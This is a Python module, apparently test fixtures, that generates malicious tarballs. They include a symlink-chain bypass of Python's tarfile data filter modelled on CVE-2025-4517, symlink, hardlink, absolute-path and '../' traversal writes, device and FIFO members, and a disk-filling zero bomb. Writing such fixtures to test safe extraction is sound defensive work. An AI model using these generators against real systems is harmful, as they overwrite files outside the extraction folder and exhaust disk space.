"""Malicious tarballs, generated: the shapes an attacker uses to write outside the extraction folder
or to fill the disk. Each writer takes the tarball path and the outside file it tries to reach."""

from __future__ import annotations

import io
import os
import tarfile
from pathlib import Path

PAYLOAD = b"written by a hostile tarball\n"


def _file(tar: tarfile.TarFile, name: str, data: bytes = PAYLOAD) -> None:
    info = tarfile.TarInfo(name)
    info.size = len(data)
    tar.addfile(info, io.BytesIO(data))


def _link(tar: tarfile.TarFile, name: str, target: str, kind: bytes = tarfile.SYMTYPE) -> None:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, target
    tar.addfile(info)


def symlink_chain(tar: tarfile.TarFile, outside: Path) -> None:
    """CVE-2025-4517's shape: symlinks whose expansion passes PATH_MAX, so os.path.realpath stops
    resolving and filter="data" (Python < 3.11.13) checks a lexical path that is not the real one;
    then a hardlink through them, overwritten by a regular member, writes `outside`."""
    comp, steps, cur = "d" * 247, "abcdefghijklmnop", ""
    for step in steps:
        info = tarfile.TarInfo(os.path.join(cur, comp))
        info.type = tarfile.DIRTYPE
        tar.addfile(info)
        _link(tar, os.path.join(cur, step), comp)
        cur = os.path.join(cur, comp)
    linkpath = os.path.join(*steps, "l" * 254)
    _link(tar, linkpath, os.path.join(*[".."] * len(steps)))
    up = "/.." * (len(steps) + 1)  # lexically back to the top; really up to /
    _link(tar, "escape", linkpath + up + "/" + str(outside.parent).lstrip("/"))
    _link(tar, "flaglink", "escape/" + outside.name, tarfile.LNKTYPE)
    _file(tar, "flaglink")


def symlink(tar: tarfile.TarFile, outside: Path) -> None:
    _link(tar, "out", str(outside.parent))
    _file(tar, f"out/{outside.name}")


def hardlink(tar: tarfile.TarFile, outside: Path) -> None:
    _link(tar, "victim", str(outside), tarfile.LNKTYPE)
    _file(tar, "victim")


def absolute(tar: tarfile.TarFile, outside: Path) -> None:
    _file(tar, str(outside))


def dotdot(tar: tarfile.TarFile, outside: Path) -> None:
    _file(tar, "model/" + "../" * 40 + str(outside).lstrip("/"))


def device(tar: tarfile.TarFile, outside: Path) -> None:
    info = tarfile.TarInfo("null")
    info.type, info.devmajor, info.devminor = tarfile.CHRTYPE, 1, 3
    tar.addfile(info)


def fifo(tar: tarfile.TarFile, outside: Path) -> None:
    info = tarfile.TarInfo("pipe")
    info.type = tarfile.FIFOTYPE
    tar.addfile(info)


HOSTILE = {
    "symlink-chain": symlink_chain,
    "symlink": symlink,
    "hardlink": hardlink,
    "absolute": absolute,
    "dotdot": dotdot,
    "device": device,
    "fifo": fifo,
}


def hostile_tarball(path: Path, kind: str, outside: Path, prefix: list | None = None) -> Path:
    """A tarball of `kind` aimed at `outside`, after the (name, bytes) files of `prefix`."""
    with tarfile.open(path, "w:gz" if path.name.endswith("gz") else "w") as tar:
        for name, data in prefix or []:
            _file(tar, name, data)
        HOSTILE[kind](tar, outside)
    return path


def zeros_tarball(path: Path, sizes: list[int]) -> Path:
    """A gzip tarball of files of zeros (`sizes` bytes each): megabytes inside, a few KB on disk."""
    with tarfile.open(path, "w:gz") as tar:
        for i, size in enumerate(sizes):
            _file(tar, f"zeros-{i}.bin", bytes(size))
    return path
